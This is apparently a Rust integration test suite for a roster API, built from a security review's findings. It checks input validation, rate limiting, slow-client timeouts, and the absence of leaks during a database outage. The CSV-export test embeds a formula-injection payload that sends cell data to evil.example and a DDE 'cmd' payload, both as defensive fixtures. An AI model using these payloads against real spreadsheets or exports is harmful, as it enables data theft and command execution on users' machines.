//! The findings of the security review (`reviews/security-2026-11.md`) that concern hostile or
//! malformed input, floods and slow clients, each as a test named after what it protects, on
//! SQLite and on PostgreSQL: the two stores must answer identically.

use std::time::Duration;

use roster_domain::actor::Role;
use roster_domain::samples::{form_json, GD_USCC};
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use uuid::Uuid;

use crate::api::{actors, gd_application, open_round, today};
use crate::app::TestApp;
use crate::dynamic::listed_platform;

async fn audit(app: &TestApp, token: &str) -> Vec<Value> {
    let r = app.get(Some(token), "/api/v1/audit?limit=10000").await;
    assert_eq!(r.status, 200, "{:?}", r.body);
    r.body.as_array().cloned().unwrap()
}

/// M1, M2, M3, L3, L5, L7: hostile input gets a 4xx naming the field, on both stores alike,
/// and appends nothing; no connection is dropped, no SQL text comes back.
pub(crate) async fn hostile_input_is_refused_by_field_and_appends_nothing(app: TestApp) {
    let a = actors(&app).await;
    let id = listed_platform(&app, &a, 0, "2025-12-01").await;
    app.clock.set("2026-01-10");
    let before = app.all_events().await.len();
    let service = format!("/api/v1/platforms/{id}/service");
    let served = |name: Value| {
        today(
            json!({"dated": "2026-01-05", "record": {"kind": "enterprise_served",
            "enterprise_uscc": "91440300708461136T", "enterprise_name": name, "contract_cny": 1000}}),
        )
    };
    for (name, why) in [
        (json!("a\u{0}b"), "NUL"),
        (json!("\u{1b}[31mred"), "ANSI escape"),
        (json!("ok\r\n2026-01-01 INFO forged"), "CR/LF"),
        (json!("\u{202e}evil"), "bidi override"),
        (json!("zero\u{200b}width"), "zero width"),
        (json!(""), "empty"),
        (json!("   "), "spaces only"),
        (json!("企".repeat(201)), "201 characters"),
    ] {
        let r = app.post(&a.ministry, &service, &served(name)).await;
        assert_eq!(
            (r.status, r.body["field"].as_str()),
            (400, Some("record.enterprise_name")),
            "{why}: {:?}",
            r.body
        );
        assert!(
            !r.body.to_string().contains("SQLSTATE"),
            "{why}: {:?}",
            r.body
        );
    }
    let r = app
        .post(&a.ministry, &service, &served(json!("企".repeat(200))))
        .await;
    assert_eq!(r.status, 201, "200 characters are a name: {:?}", r.body);
    let mut huge = served(json!("示例企业"));
    huge["record"]["contract_cny"] = json!(1_000_000_000_001u64);
    let r = app.post(&a.ministry, &service, &huge).await;
    assert_eq!(r.body["field"], "record.contract_cny", "{:?}", r.body);

    let delist = format!("/api/v1/platforms/{id}/delisting");
    let r = app
        .post(
            &a.ministry,
            &delist,
            &today(json!({"reason": "other", "details": "x".repeat(4001)})),
        )
        .await;
    assert_eq!((r.status, r.body["field"].as_str()), (400, Some("details")));
    let reasons: Vec<String> = (0..51).map(|i| format!("理由{i}")).collect();
    let r = app
        .post(
            &a.ministry,
            &format!("/api/v1/platforms/{id}/review-conclusion"),
            &today(json!({"review_id": "r", "outcome": "passed", "reasons": reasons})),
        )
        .await;
    assert_eq!((r.status, r.body["field"].as_str()), (400, Some("reasons")));

    // L7: a client may not name an event as the cause of its command.
    let mut caused = served(json!("示例企业"));
    caused["causation_id"] = json!(Uuid::new_v4());
    let r = app.post(&a.ministry, &service, &caused).await;
    assert_eq!(
        (r.status, r.body["field"].as_str()),
        (400, Some("causation_id"))
    );

    // M1: a multi-byte city code is a 400, not a dropped connection; L3: unknown codes too.
    for q in ["city=4%C3%A9444", "city=449999", "city=999999"] {
        for path in ["/api/v1/platforms", "/api/v1/roster"] {
            let r = app.get(Some(&a.analyst), &format!("{path}?{q}")).await;
            assert_eq!(
                (r.status, r.body["field"].as_str()),
                (400, Some("city")),
                "{path}?{q}"
            );
        }
    }
    let applicant = app.token(Role::Applicant, Some(GD_USCC)).await;
    for (city, province) in [("4é444", "44"), ("449999", "44"), ("320100", "32")] {
        let form = form_json(GD_USCC, province, city, &["enzymes"]);
        let r = app
            .post(
                &applicant,
                "/api/v1/platforms/gd-sz-bad-26/application",
                &today(json!({"round_id": "2025", "form": form})),
            )
            .await;
        assert_eq!(r.status, 400, "{city}/{province}: {:?}", r.body);
        assert!(
            r.body["field"]
                .as_str()
                .unwrap()
                .starts_with("form.applicant."),
            "{city}/{province}: {:?}",
            r.body
        );
    }
    // L5: the qualified part of the team is within the team.
    let mut form = form_json(GD_USCC, "44", "440300", &["enzymes"]);
    form["team"]["qualified_staff"] = json!(999);
    let r = app
        .post(
            &applicant,
            "/api/v1/platforms/gd-sz-bad-26/application",
            &today(json!({"round_id": "2025", "form": form})),
        )
        .await;
    assert_eq!(r.body["field"], "form.team.qualified_staff", "{:?}", r.body);

    // M2: a NUL in a path is a platform that does not exist, and its refusal is audited.
    let rows = audit(&app, &a.ministry).await.len();
    let r = app.get(Some(&a.ministry), "/api/v1/platforms/abc%00").await;
    assert_eq!(r.status, 404, "{:?}", r.body);
    let shenzhen = app.token(Role::City, Some("440300")).await;
    let r = app
        .post(
            &shenzhen,
            &format!("/api/v1/platforms/{id}/delisting%00"),
            &today(json!({})),
        )
        .await;
    assert_eq!(r.status, 404, "{:?}", r.body);
    let after = audit(&app, &a.ministry).await;
    assert!(
        after.len() > rows,
        "the refusal with a NUL in its path is audited"
    );
    assert!(after.iter().all(|e| !e["command_type"]
        .as_str()
        .unwrap_or_default()
        .contains('\u{0}')));
    assert_eq!(
        app.all_events().await.len(),
        before + 1,
        "only the 200-character name was recorded"
    );
}

/// M4 through the API: once Shenzhen endorsed, the applicant cannot move its application to
/// Guangzhou (which never endorsed it).
pub(crate) async fn an_endorsed_application_keeps_its_city(app: TestApp) {
    let a = actors(&app).await;
    open_round(&app, &a).await;
    let (id, applicant) = gd_application(&app, &a, 0).await;
    let r = app
        .act(
            &applicant,
            &format!("/api/v1/platforms/{id}/amendment"),
            "2025-07-09",
            json!({"changes": {"applicant": {"city": "440100"}}}),
        )
        .await;
    assert_eq!(
        (r.status, r.body["code"].as_str(), r.body["field"].as_str()),
        (422, Some("R-3"), Some("changes.applicant.city")),
        "{:?}",
        r.body
    );
    let p = app
        .get(Some(&a.ministry), &format!("/api/v1/platforms/{id}"))
        .await;
    assert_eq!(p.body["state"]["form"]["applicant"]["city"], "440300");
}

/// M5: cells a spreadsheet would evaluate leave the CSV exports as text.
pub(crate) async fn csv_exports_cannot_carry_formulas(app: TestApp) {
    let a = actors(&app).await;
    open_round(&app, &a).await;
    let uscc = "91320100MA5FEC003A";
    let applicant = app.token(Role::Applicant, Some(uscc)).await;
    let mut form = form_json(uscc, "32", "320100", &["enzymes"]);
    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")"#;
    form["applicant"]["name"] = json!(formula);
    form["platform"]["name"] = json!("+cmd|' /C calc'!A0");
    let r = app
        .act(
            &applicant,
            "/api/v1/platforms/js-csv/application",
            "2025-07-02",
            json!({"round_id": "2025", "form": form}),
        )
        .await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    let r = app
        .get(
            Some(&a.ministry),
            "/api/v1/roster?format=csv&status=submitted",
        )
        .await;
    let csv = r.body.as_str().unwrap().to_string();
    let mut reader =
        csv::ReaderBuilder::new().from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let row = reader.records().next().expect("a row").unwrap();
    let cells: Vec<&str> = row.iter().collect();
    assert!(cells.contains(&format!("'{formula}").as_str()), "{cells:?}");
    assert!(cells.contains(&"'+cmd|' /C calc'!A0"), "{cells:?}");
    assert!(
        cells.iter().all(|c| !c.starts_with(['=', '+', '@'])),
        "{cells:?}"
    );
}

/// H3, L1: anonymous and failed requests are audited as `anonymous`, with the path cut short;
/// past the address's budget of failed authentications they get 429 with Retry-After and are
/// not audited, so 300 of them cannot add megabytes to the append-only log; a valid token
/// still works.
pub(crate) async fn floods_of_failed_requests_are_limited_and_audited_bounded(app: TestApp) {
    let a = actors(&app).await;
    let long = "x".repeat(60 * 1024);
    let rows_before = audit(&app, &a.ministry).await.len();
    let (mut unauthorised, mut limited) = (0, 0);
    for i in 0..150 {
        let mut req = app
            .http
            .get(format!("{}/api/v1/platforms/{long}{i}", app.base));
        if i % 2 == 1 {
            req = req.bearer_auth(format!("rst_guess{i}"));
        }
        let r = req.send().await.expect("answered");
        match r.status().as_u16() {
            401 => unauthorised += 1,
            429 => {
                limited += 1;
                let wait: u64 = r.headers()["retry-after"]
                    .to_str()
                    .unwrap()
                    .parse()
                    .unwrap();
                assert!((1..=60).contains(&wait), "{wait}");
            }
            s => panic!("unexpected {s}"),
        }
    }
    // 30 a minute: one more may have come free while the 150 were sent.
    assert!((30..=32).contains(&unauthorised), "{unauthorised}");
    assert_eq!(unauthorised + limited, 150);
    let rows = audit(&app, &a.ministry).await;
    let anonymous: Vec<&Value> = rows[..rows.len() - rows_before]
        .iter()
        .filter(|e| e["actor"]["id"] == "anonymous")
        .collect();
    assert_eq!(
        anonymous.len(),
        unauthorised,
        "only the answered ones are audited"
    );
    for e in &anonymous {
        assert_eq!(e["actor"]["role"], "anonymous", "not an analyst: {e}");
        assert!(
            e["command_type"].as_str().unwrap().chars().count() <= 201,
            "path cut short"
        );
    }
    let analysts = app.get(Some(&a.analyst), "/api/v1/platforms").await;
    assert_eq!(analysts.status, 200, "a valid token still works");
}

/// H3: one token cannot flood the API either (50/s, bursts of 100 by default).
pub(crate) async fn one_token_is_rate_limited(app: TestApp) {
    let a = actors(&app).await;
    let mut limited = None;
    for _ in 0..400 {
        let r = app
            .http
            .get(format!("{}/api/v1/rounds", app.base))
            .bearer_auth(&a.analyst)
            .send()
            .await
            .unwrap();
        if r.status() == 429 {
            limited = Some(r.headers()["retry-after"].to_str().unwrap().to_string());
            break;
        }
        assert_eq!(r.status(), 200);
    }
    assert!(
        limited.is_some(),
        "400 requests in a row were never limited"
    );
    assert_eq!(
        app.get(Some(&a.ministry), "/api/v1/rounds").await.status,
        200,
        "another token is not"
    );
}

/// L2: a client that sends no complete header in 10 s is disconnected.
pub(crate) async fn half_open_connections_are_closed(app: TestApp) {
    let addr = app.base.trim_start_matches("http://").to_string();
    let mut conns = Vec::new();
    for _ in 0..20 {
        let mut s = tokio::net::TcpStream::connect(&addr).await.unwrap();
        s.write_all(b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            .await
            .unwrap();
        conns.push(s);
    }
    tokio::time::sleep(roster_http::HEADER_READ_TIMEOUT + Duration::from_secs(2)).await;
    for mut s in conns {
        let mut buf = [0u8; 512];
        let n = tokio::time::timeout(Duration::from_secs(2), s.read(&mut buf))
            .await
            .expect("the server has answered or closed by now")
            .unwrap_or(0);
        let text = String::from_utf8_lossy(&buf[..n]);
        assert!(n == 0 || text.starts_with("HTTP/1.1 408"), "{text}");
    }
    assert_eq!(app.get(None, "/health").await.status, 200);
}

/// L9: API answers are neither cached nor sniffed.
pub(crate) async fn api_answers_are_not_cached_or_sniffed(app: TestApp) {
    let a = actors(&app).await;
    for (token, path) in [
        (Some(&a.analyst), "/api/v1/platforms"),
        (None, "/api/v1/platforms"),
        (Some(&a.analyst), "/api/v1/roster?format=csv"),
    ] {
        let mut req = app.http.get(format!("{}{path}", app.base));
        if let Some(t) = token {
            req = req.bearer_auth(t);
        }
        let r = req.send().await.unwrap();
        assert_eq!(r.headers()["cache-control"], "no-store", "{path}");
        assert_eq!(r.headers()["x-content-type-options"], "nosniff", "{path}");
    }
}

/// L5, L6: refusals say what is wrong where: amounts (a decimal, a fraction, 2^64) and USCCs
/// inside a service record are named `record.<field>`; the nil UUID is no command id; unknown
/// routes, wrong methods and paths that are not UTF-8 answer problem+json like every refusal.
pub(crate) async fn refusals_are_precise_problem_json_everywhere(app: TestApp) {
    let a = actors(&app).await;
    let id = listed_platform(&app, &a, 0, "2025-12-01").await;
    app.clock.set("2026-01-10");
    let service = format!("/api/v1/platforms/{id}/service");
    for (amount, words) in [
        ("1e3", "integer"),
        ("2.5", "fraction"),
        ("18446744073709551616", "too large"),
        ("-1", "negative"),
    ] {
        let body = format!(
            r#"{{"command_id": "{}", "dated": "2026-01-05", "record": {{"kind": "enterprise_served",
               "enterprise_uscc": "91440300708461136T", "enterprise_name": "示例", "contract_cny": {amount}}}}}"#,
            Uuid::new_v4()
        );
        let r = app.post_raw(Some(&a.ministry), &service, body).await;
        assert_eq!(
            (r.status, r.body["field"].as_str()),
            (400, Some("record.contract_cny")),
            "{amount}: {:?}",
            r.body
        );
        assert!(
            r.body["detail"].as_str().unwrap().contains(words),
            "{amount}: {:?}",
            r.body
        );
    }
    let mut bad_uscc = today(
        json!({"dated": "2026-01-05", "record": {"kind": "enterprise_served",
        "enterprise_uscc": "91440300708461136X", "enterprise_name": "示例", "contract_cny": 1}}),
    );
    let r = app.post(&a.ministry, &service, &bad_uscc).await;
    assert_eq!(
        (r.body["code"].as_str(), r.body["field"].as_str()),
        (Some("G-1"), Some("record.enterprise_uscc")),
        "{:?}",
        r.body
    );
    bad_uscc["record"]["enterprise_uscc"] = json!("91440300708461136T");
    bad_uscc["command_id"] = json!(Uuid::nil());
    let r = app.post(&a.ministry, &service, &bad_uscc).await;
    assert_eq!(
        (r.status, r.body["field"].as_str()),
        (400, Some("command_id")),
        "{:?}",
        r.body
    );

    // A key named twice in one object is refused, not silently the last one.
    let twice = format!(
        r#"{{"command_id": "{}", "dated": "2026-01-05", "dated": "2026-01-06", "record": {{"kind": "enterprise_served",
           "enterprise_uscc": "91440300708461136T", "enterprise_name": "示例", "contract_cny": 1}}}}"#,
        Uuid::new_v4()
    );
    let r = app.post_raw(Some(&a.ministry), &service, twice).await;
    assert_eq!(
        (r.status, r.body["code"].as_str()),
        (400, Some("malformed_json")),
        "{:?}",
        r.body
    );
    assert!(
        r.body["detail"]
            .as_str()
            .unwrap()
            .contains("`dated` appears twice"),
        "{:?}",
        r.body
    );

    let problem = |r: &reqwest::Response| {
        r.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("application/problem+json")
    };
    let r = app
        .http
        .get(format!("{}/api/v1/no-such-route", app.base))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 404);
    assert!(problem(&r));
    let r = app
        .http
        .delete(format!("{}/api/v1/rounds", app.base))
        .bearer_auth(&a.ministry)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 405);
    assert!(problem(&r));
    assert!(r.headers().contains_key("allow"));
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["status"], 405);
    let r = app
        .http
        .get(format!("{}/api/v1/platforms/%FF%FE", app.base))
        .bearer_auth(&a.ministry)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);
    assert!(problem(&r), "{:?}", r.headers());
}

on_every_store!(
    refusals_are_precise_problem_json_everywhere,
    hostile_input_is_refused_by_field_and_appends_nothing,
    an_endorsed_application_keeps_its_city,
    csv_exports_cannot_carry_formulas,
    floods_of_failed_requests_are_limited_and_audited_bounded,
    one_token_is_rate_limited,
    half_open_connections_are_closed,
    api_answers_are_not_cached_or_sniffed,
);

/// L4, M2: during a database outage, neither `/ready` nor a request with an unknown token tells
/// an anonymous caller anything about the database; service resumes when it is back.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_outage_reveals_nothing_about_the_database() {
    let app = crate::app::spawn_app(crate::app::Kind::Postgres).await;
    let config = app.pg_config().expect("postgres");
    let name = config.get_dbname().unwrap().to_string();
    let (admin, conn) = crate::support::admin_config()
        .connect(tokio_postgres::NoTls)
        .await
        .expect("admin connection");
    tokio::spawn(conn);
    let set = |allow: bool| format!("ALTER DATABASE \"{name}\" ALLOW_CONNECTIONS {allow}");
    admin.batch_execute(&set(false)).await.unwrap();
    admin
        .execute(
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = $1",
            &[&name],
        )
        .await
        .unwrap();
    let ready = app.get(None, "/ready").await;
    let guess = app.get(Some("rst_unknown"), "/api/v1/platforms").await;
    admin.batch_execute(&set(true)).await.unwrap();
    assert_eq!(ready.status, 503, "{:?}", ready.body);
    assert_eq!(ready.body, json!({"status": "unavailable"}));
    assert_eq!(guess.status, 503, "{:?}", guess.body);
    for body in [ready.body.to_string(), guess.body.to_string()] {
        for secret in [name.as_str(), "SQLSTATE", "database", "postgres"] {
            assert!(!body.contains(secret), "{secret} in {body}");
        }
    }
    let mut back = false;
    for _ in 0..50 {
        if app.get(None, "/ready").await.status == 200 {
            back = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(back, "ready again once the database is back");
}
